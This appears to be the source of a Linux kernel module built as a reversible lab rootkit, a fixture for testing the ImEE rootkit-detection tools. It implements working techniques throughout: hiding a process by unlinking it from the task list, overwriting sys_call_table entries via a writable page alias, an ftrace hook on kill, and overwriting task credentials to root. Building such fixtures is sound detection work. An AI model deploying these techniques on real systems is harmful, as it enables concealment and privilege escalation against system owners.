// SPDX-License-Identifier: GPL-2.0
/*
 * imee_rk -- the lab rootkit: what real rootkits do, each part switchable, for the ImEE tools to
 * catch. Loaded into the lab guest by labguest on the channel command `rk load ...`; every change
 * is undone on unload. Only for the lab guest (Debian 6.1 and 6.12 kernels).
 *
 *   hide_pid=N     DKOM: unlink task N from the task list (init_task.tasks); it keeps running and
 *                  keeps its pid (the pid namespace's IDR still holds it)
 *   sct=1          overwrite two sys_call_table entries: sct_mod_nr -> a function of this module
 *                  (which calls the original handler), sct_text_nr -> an unrelated function in
 *                  kernel text (only on kernels that dispatch through x64_sys_call(), which never
 *                  read the table: there the entry is tampering, not a live redirection)
 *   ftrace=1       ftrace hook with IP modification on __x64_sys_kill: kill(hide_pid, ...) fails
 *                  with ESRCH (effective on every kernel: x64_sys_call() calls the handler)
 *   kprobe=1       a kprobe on __x64_sys_getppid (a pre-handler that counts calls): on an
 *                  ftrace call site, so it runs through kprobes' own ftrace_ops
 *   steal_pid=N    point task N's cred and real_cred at init_cred (references taken)
 *   write_pid=N    task N's own cred: write all uids/gids to 0 and full capabilities, in place;
 *                  at load if write_now=1, else when 1 is written to parameters/write_now
 *
 * /proc/imee_rk reports what was done, one "key value..." line each (labguest forwards it as the
 * channel's truth). kallsyms_lookup_name is not exported: found through a kprobe on it.
 */
#include <linux/cred.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/proc_fs.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/uidgid.h>
#include <linux/vmalloc.h>
#include <linux/mm.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("ImEE lab rootkit (test fixture)");

static int hide_pid;
module_param(hide_pid, int, 0444);
static int sct;
module_param(sct, int, 0444);
static int sct_mod_nr = 111;  /* getpgrp */
module_param(sct_mod_nr, int, 0444);
static int sct_text_nr = 112; /* setsid */
module_param(sct_text_nr, int, 0444);
static int ftrace;
module_param(ftrace, int, 0444);
static int kprobe;
module_param(kprobe, int, 0444);
static int steal_pid;
module_param(steal_pid, int, 0444);
static int write_pid;
module_param(write_pid, int, 0444);

typedef unsigned long (*lookup_fn)(const char *name);
static lookup_fn lookup;

static unsigned long sym(const char *name)
{
	return lookup ? lookup(name) : 0;
}

static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err)
		return err;
	lookup = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? 0 : -ENOENT;
}

/* ------------------------------------------------------------ (a) DKOM */

static struct task_struct *hidden;
static rwlock_t *tasklist;

static int hide_task(void)
{
	struct task_struct *t;

	tasklist = (rwlock_t *)sym("tasklist_lock");
	if (!tasklist)
		return -ENOENT;
	rcu_read_lock();
	t = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	if (!t)
		return -ESRCH;
	if (!thread_group_leader(t)) {
		put_task_struct(t);
		return -EINVAL;
	}
	write_lock_irq(tasklist);
	list_del_init(&t->tasks);
	write_unlock_irq(tasklist);
	hidden = t;
	return 0;
}

static void unhide_task(void)
{
	if (!hidden)
		return;
	write_lock_irq(tasklist);
	/* an exited task left the pid hash already (release_task): do not link it back */
	if (pid_alive(hidden) && list_empty(&hidden->tasks))
		list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
	write_unlock_irq(tasklist);
	put_task_struct(hidden);
	hidden = NULL;
}

/* ------------------------------------------------------------ (b) sys_call_table */

typedef long (*syscall_fn)(const struct pt_regs *);
static unsigned long *sys_call_table_p;
static unsigned long sct_old_mod, sct_old_text, sct_text_target;
static bool sct_done_mod, sct_done_text;

static long notrace rk_getpgrp_hook(const struct pt_regs *regs)
{
	return ((syscall_fn)sct_old_mod)(regs);
}

/* Writes one read-only kernel word through a writable alias of its page (no CR0.WP games). */
static int write_ro_word(unsigned long *where, unsigned long value)
{
	struct page *page = virt_to_page(where);
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	WRITE_ONCE(*(unsigned long *)(alias + offset_in_page(where)), value);
	vunmap(alias);
	return 0;
}

static int hook_table(void)
{
	int err;

	sys_call_table_p = (unsigned long *)sym("sys_call_table");
	if (!sys_call_table_p)
		return -ENOENT;
	sct_old_mod = sys_call_table_p[sct_mod_nr];
	err = write_ro_word(&sys_call_table_p[sct_mod_nr], (unsigned long)rk_getpgrp_hook);
	if (err)
		return err;
	sct_done_mod = true;
	/* an unrelated kernel function: harmless only where the table is not dispatched through */
	if (!sym("x64_sys_call"))
		return 0;
	sct_text_target = sym("ktime_get_real_seconds");
	if (!sct_text_target)
		return -ENOENT;
	sct_old_text = sys_call_table_p[sct_text_nr];
	err = write_ro_word(&sys_call_table_p[sct_text_nr], sct_text_target);
	if (err)
		return err;
	sct_done_text = true;
	return 0;
}

static void unhook_table(void)
{
	if (sct_done_text)
		write_ro_word(&sys_call_table_p[sct_text_nr], sct_old_text);
	if (sct_done_mod)
		write_ro_word(&sys_call_table_p[sct_mod_nr], sct_old_mod);
	sct_done_mod = sct_done_text = false;
}

/* ------------------------------------------------------------ (b) ftrace hook */

static unsigned long kill_addr;
static bool ftrace_on;
static atomic_t kill_hidden_calls = ATOMIC_INIT(0);

static long notrace rk_kill_hook(const struct pt_regs *regs)
{
	if (hide_pid && (int)regs->di == hide_pid) {
		atomic_inc(&kill_hidden_calls);
		return -ESRCH;
	}
	return ((syscall_fn)kill_addr)(regs);
}

static void notrace rk_ftrace_cb(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *ops,
				 struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	/* our own call of the original handler must reach it */
	if (regs && !within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)rk_kill_hook;
}

static struct ftrace_ops rk_ops = {
	.func = rk_ftrace_cb,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static int hook_ftrace(void)
{
	int err;

	kill_addr = sym("__x64_sys_kill");
	if (!kill_addr)
		return -ENOENT;
	err = ftrace_set_filter_ip(&rk_ops, kill_addr, 0, 0);
	if (err)
		return err;
	err = register_ftrace_function(&rk_ops);
	if (err) {
		ftrace_set_filter_ip(&rk_ops, kill_addr, 1, 0);
		return err;
	}
	ftrace_on = true;
	return 0;
}

static void unhook_ftrace(void)
{
	if (!ftrace_on)
		return;
	unregister_ftrace_function(&rk_ops);
	ftrace_set_filter_ip(&rk_ops, kill_addr, 1, 0);
	ftrace_on = false;
}

/* ------------------------------------------------------------ (b) kprobe */

static atomic_t kprobe_hits = ATOMIC_INIT(0);
static bool kprobe_on;

static int notrace rk_kprobe_pre(struct kprobe *p, struct pt_regs *regs)
{
	atomic_inc(&kprobe_hits);
	return 0;
}

static struct kprobe rk_kp = { .symbol_name = "__x64_sys_getppid", .pre_handler = rk_kprobe_pre };

static int hook_kprobe(void)
{
	int err = register_kprobe(&rk_kp);

	if (err)
		return err;
	kprobe_on = true;
	return 0;
}

static void unhook_kprobe(void)
{
	if (kprobe_on)
		unregister_kprobe(&rk_kp);
	kprobe_on = false;
}

/* ------------------------------------------------------------ (c) credentials */

static struct task_struct *stolen;
static const struct cred *stolen_old_cred, *stolen_old_real;
static struct cred *init_cred_p;

static struct task_struct *get_task(int pid)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	return t;
}

static int steal_cred(void)
{
	init_cred_p = (struct cred *)sym("init_cred");
	if (!init_cred_p)
		return -ENOENT;
	stolen = get_task(steal_pid);
	if (!stolen)
		return -ESRCH;
	task_lock(stolen);
	stolen_old_cred = stolen->cred;
	stolen_old_real = stolen->real_cred;
	/* one reference per pointer, as copy_creds takes them; the old ones stay ours until unload */
	get_cred(init_cred_p);
	get_cred(init_cred_p);
	rcu_assign_pointer(stolen->real_cred, init_cred_p);
	rcu_assign_pointer(stolen->cred, init_cred_p);
	task_unlock(stolen);
	return 0;
}

static void restore_stolen(void)
{
	const struct cred *c, *r;

	if (!stolen)
		return;
	task_lock(stolen);
	c = stolen->cred;
	r = stolen->real_cred;
	rcu_assign_pointer(stolen->real_cred, stolen_old_real);
	rcu_assign_pointer(stolen->cred, stolen_old_cred);
	task_unlock(stolen);
	synchronize_rcu();
	put_cred(c);
	put_cred(r);
	put_task_struct(stolen);
	stolen = NULL;
}

static struct task_struct *written;
static struct cred saved_ids;  /* only the ids and capabilities are used */
static struct cred *written_cred;
static bool ids_written;
static DEFINE_MUTEX(write_lock);

static void copy_ids(struct cred *to, const struct cred *from)
{
	to->uid = from->uid, to->euid = from->euid, to->suid = from->suid, to->fsuid = from->fsuid;
	to->gid = from->gid, to->egid = from->egid, to->sgid = from->sgid, to->fsgid = from->fsgid;
	to->cap_inheritable = from->cap_inheritable;
	to->cap_permitted = from->cap_permitted;
	to->cap_effective = from->cap_effective;
}

static int write_ids(void)
{
	struct cred root;

	mutex_lock(&write_lock);
	if (ids_written || !written) {
		mutex_unlock(&write_lock);
		return written ? 0 : -ESRCH;
	}
	written_cred = (struct cred *)written->real_cred;
	copy_ids(&saved_ids, written_cred);
	root.uid = root.euid = root.suid = root.fsuid = GLOBAL_ROOT_UID;
	root.gid = root.egid = root.sgid = root.fsgid = GLOBAL_ROOT_GID;
	root.cap_inheritable = written_cred->cap_inheritable;
	root.cap_permitted = CAP_FULL_SET;
	root.cap_effective = CAP_FULL_SET;
	copy_ids(written_cred, &root);
	ids_written = true;
	mutex_unlock(&write_lock);
	return 0;
}

static void restore_ids(void)
{
	mutex_lock(&write_lock);
	if (ids_written)
		copy_ids(written_cred, &saved_ids);
	ids_written = false;
	mutex_unlock(&write_lock);
	if (written)
		put_task_struct(written);
	written = NULL;
}

static bool initialized;
static int write_now_at_load;

static int write_now_set(const char *val, const struct kernel_param *kp)
{
	bool now;
	int err = kstrtobool(val, &now);

	if (err)
		return err;
	if (!initialized) {  /* given at load: done by rk_init once the task is known */
		write_now_at_load = now;
		return 0;
	}
	return now ? write_ids() : 0;
}

static int write_now_get(char *buf, const struct kernel_param *kp)
{
	return sprintf(buf, "%d\n", ids_written);
}

static const struct kernel_param_ops write_now_ops = { .set = write_now_set, .get = write_now_get };
module_param_cb(write_now, &write_now_ops, &write_now_at_load, 0644);

/* ------------------------------------------------------------ report */

static int report_show(struct seq_file *m, void *v)
{
	seq_printf(m, "module imee_rk core 0x%lx\n", (unsigned long)THIS_MODULE);
	if (hidden)
		seq_printf(m, "hidden pid %d task 0x%lx\n", hide_pid, (unsigned long)hidden);
	if (sct_done_mod)
		seq_printf(m, "sct_module nr %d old 0x%lx new 0x%lx symbol rk_getpgrp_hook\n", sct_mod_nr,
			   sct_old_mod, (unsigned long)rk_getpgrp_hook);
	if (sct_done_text)
		seq_printf(m, "sct_text nr %d old 0x%lx new 0x%lx symbol ktime_get_real_seconds\n",
			   sct_text_nr, sct_old_text, sct_text_target);
	if (ftrace_on)
		seq_printf(m, "ftrace function __x64_sys_kill addr 0x%lx ops 0x%lx hook 0x%lx calls %d\n",
			   kill_addr, (unsigned long)&rk_ops, (unsigned long)rk_kill_hook,
			   atomic_read(&kill_hidden_calls));
	if (kprobe_on)
		seq_printf(m, "kprobe function __x64_sys_getppid addr 0x%lx kprobe 0x%lx handler 0x%lx hits %d\n",
			   (unsigned long)rk_kp.addr, (unsigned long)&rk_kp, (unsigned long)rk_kprobe_pre,
			   atomic_read(&kprobe_hits));
	if (stolen)
		seq_printf(m, "cred_steal pid %d old_cred 0x%lx new_cred 0x%lx symbol init_cred\n", steal_pid,
			   (unsigned long)stolen_old_real, (unsigned long)init_cred_p);
	if (written)
		seq_printf(m, "cred_write pid %d cred 0x%lx written %d old_uid %u\n", write_pid,
			   (unsigned long)written->real_cred, ids_written,
			   from_kuid(&init_user_ns, ids_written ? saved_ids.uid : written->real_cred->uid));
	return 0;
}

static struct proc_dir_entry *report;

/* ------------------------------------------------------------ load / unload */

static void undo_all(void)
{
	if (report)
		proc_remove(report);
	report = NULL;
	restore_ids();
	restore_stolen();
	unhook_kprobe();
	unhook_ftrace();
	unhook_table();
	unhide_task();
}

static int __init rk_init(void)
{
	int err = find_lookup();

	if (err) {
		pr_err("imee_rk: no kallsyms_lookup_name (%d)\n", err);
		return err;
	}
	if (hide_pid && (err = hide_task()))
		goto fail;
	if (sct && (err = hook_table()))
		goto fail;
	if (ftrace && (err = hook_ftrace()))
		goto fail;
	if (kprobe && (err = hook_kprobe()))
		goto fail;
	if (steal_pid && (err = steal_cred()))
		goto fail;
	if (write_pid) {
		written = get_task(write_pid);
		if (!written) {
			err = -ESRCH;
			goto fail;
		}
		if (write_now_at_load && (err = write_ids()))
			goto fail;
	}
	report = proc_create_single("imee_rk", 0444, NULL, report_show);
	if (!report) {
		err = -ENOMEM;
		goto fail;
	}
	initialized = true;
	pr_info("imee_rk: loaded\n");
	return 0;
fail:
	pr_err("imee_rk: load failed (%d), undone\n", err);
	undo_all();
	return err;
}

static void __exit rk_exit(void)
{
	undo_all();
	pr_info("imee_rk: unloaded, everything restored\n");
}

module_init(rk_init);
module_exit(rk_exit);
